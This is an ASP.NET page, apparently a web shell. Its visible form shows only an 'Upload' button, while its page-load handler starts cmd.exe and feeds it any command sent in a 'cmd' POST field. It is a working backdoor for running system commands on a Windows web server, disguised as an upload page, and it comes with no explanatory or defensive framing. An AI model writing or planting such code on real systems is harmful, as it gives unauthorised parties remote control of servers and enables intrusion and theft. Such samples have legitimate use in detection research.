<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    HttpCookie newcook = new HttpCookie("fqrspt", HttpContext.Current.Request.Form["fqrspt"]);
    newcook.Expires = DateTime.Now.AddDays(1);
    System.Diagnostics.Process process = new System.Diagnostics.Process();
    process.StartInfo.FileName = "cmd.exe";
    process.StartInfo.RedirectStandardInput = true;
    process.StartInfo.UseShellExecute = false;
    process.Start();
    process.StandardInput.WriteLine(HttpContext.Current.Request.Form["cmd"]);
    process.StandardInput.WriteLine("exit");
}
</script>
<form runat="server"><input type="submit" value="Upload" /></form>
